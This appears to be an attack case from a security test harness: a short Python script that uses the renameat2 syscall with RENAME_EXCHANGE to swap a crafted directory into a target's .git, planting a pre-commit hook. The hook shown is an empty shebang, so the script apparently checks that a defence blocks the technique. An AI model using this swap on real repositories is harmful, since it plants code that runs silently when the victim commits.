import os

from calls import AT_FDCWD, call
from inside import run

RENAMEAT2 = 316 if os.uname().machine == "x86_64" else 276
RENAME_EXCHANGE = 2


def attack(target):
    os.makedirs(f"{target.work}/mine/hooks")
    with open(f"{target.work}/mine/hooks/pre-commit", "w") as file:
        file.write("#!/bin/sh\n")
    call(RENAMEAT2, AT_FDCWD, f"{target.work}/mine".encode(), AT_FDCWD, f"{target.work}/.git".encode(), RENAME_EXCHANGE)


run(attack)
